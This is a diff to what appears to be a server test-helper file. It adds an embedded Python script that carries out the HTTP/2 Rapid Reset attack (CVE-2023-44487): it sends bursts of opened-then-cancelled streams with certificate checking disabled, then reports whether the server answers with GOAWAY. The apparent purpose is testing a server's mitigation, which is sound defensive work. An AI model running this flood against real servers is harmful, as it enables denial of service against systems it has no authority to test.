@@ -118,4 +118,41 @@ while True:
         result["streams"].setdefault(str(stream), {})["reset"] = struct.unpack("!I", payload)[0]
 print(json.dumps(result), flush=True)
 """#
+
+    /// Rapid reset (CVE-2023-44487): opens and cancels argv[3] streams in
+    /// one burst, then reads until GOAWAY or EOF. Prints "goaway=<code>"
+    /// or "goaway=none".
+    static let rapidReset = #"""
+import socket, ssl, struct, sys
+host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+ctx.set_alpn_protocols(["h2"])
+sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=30), server_hostname="localhost")
+def literal(name, value):
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+block = literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":path", b"/") + literal(b":authority", b"localhost")
+burst = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
+for i in range(count):
+    stream = 2 * i + 1
+    burst += frame(1, 0x4, stream, block) + frame(3, 0, stream, struct.pack("!I", 8))
+try:
+    sock.sendall(burst)
+except (ConnectionError, ssl.SSLError):
+    pass
+buffer, code = b"", "none"
+try:
+    while True:
+        chunk = sock.recv(65536)
+        if not chunk: break
+        buffer += chunk
+        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
+            length = int.from_bytes(buffer[:3], "big")
+            if buffer[3] == 7: code = str(struct.unpack("!I", buffer[13:17])[0])
+            buffer = buffer[9 + length:]
+except (ConnectionError, ssl.SSLError, socket.timeout):
+    pass
+print("goaway=" + code)
+"""#
 }
